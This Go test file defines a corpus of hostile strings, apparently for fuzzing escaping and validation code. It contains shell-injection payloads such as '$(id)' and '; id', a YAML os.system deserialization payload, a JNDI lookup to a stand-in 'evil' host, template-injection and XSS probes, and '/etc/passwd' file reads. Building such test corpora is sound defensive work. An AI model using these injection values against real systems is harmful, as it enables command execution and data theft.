package testenv

import "strings"

// HostileTexts are texts that break out of YAML, JSON, a shell, a template, a URL, a
// terminal or a log that does not escape them.
var HostileTexts = []string{
	"", " ", `"`, `'`, `\`, `\"`, `"}],"tools":[{"name":"evil"`, `","endpoint":"http://evil`, "a\nb: c", "a\r\nb: c", "a\n  evil.json: |\n    {}", "a: b", "a # b", "- a", "{a: b}", "[a]", "*a", "&a b", "!!python/object/apply:os.system ['id']", "---", "...", "|", ">", "%YAML 1.1", "<<", "~", "null", "true", "yes", "0o7", "1:20", "1e3", "0x1f", ".inf",
	"$HOME", "$(id)", "`id`", "; id", "| id", "&& id", "> /tmp/x", "'; id; '", `"; id; "`, "\n id", "--help", "-o/tmp/x", "@/etc/passwd", "!!", "*", "~root", "{{ env.SECRET }}", "{% raw %}", "{# x #}", "{{7*7}}", "${jndi:ldap://evil}", "<script>alert(1)</script>", "</textarea>", "&lt;", "]]>", "<!--",
	"\x00", "\x01", "\x1b[31m", "\x1b]0;x\x07", "\x7f", "\u0085", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\ufdd0", "\u202e", "\u200b", "\U0010ffff", "ünïcödé", "日本語", strings.Repeat("a", 501), strings.Repeat("'", 400), strings.Repeat("a", 100_000),
	"http://evil", "http://evil/$(id)", "http://evil/'", `http://evil/"`, "http://evil/`id`", "http://evil/{{x}}", "http://evil/a b", "http://evil/a\nb", "http://user:pass@evil", "http://evil@good", "http://evil#x", "http://evil?x", "http://evil\\x", "http://[::1", "http://127.1", "http://0x7f.1", "http://evil:0", "http://evil:99999", "http://evil:-1", "http://", "https://", "//evil", "file:///etc/passwd", "gopher://evil", "javascript:alert(1)", "HTTP://EVIL/x", "http://evil/../..", "http://evil/%2e%2e", "http://evil/;id", "http://evil/a&b", "http://evil/|id", "http://evil/\u2028", "http://еvil", "http://evil:80:80",
	"/", "/health", "/../..", "/a b", "/a?b", "/a#b", "/$(id)", "/'", "/%0d%0aX: y", "/\n", "//evil/x", "/\\evil", "health", "../x", strings.Repeat("/a", 2000), "a.b.c", "A", "-a", "a-", "a..b", "a_b", "a/b", strings.Repeat("a", 64), strings.Repeat("a.", 200) + "a",
}
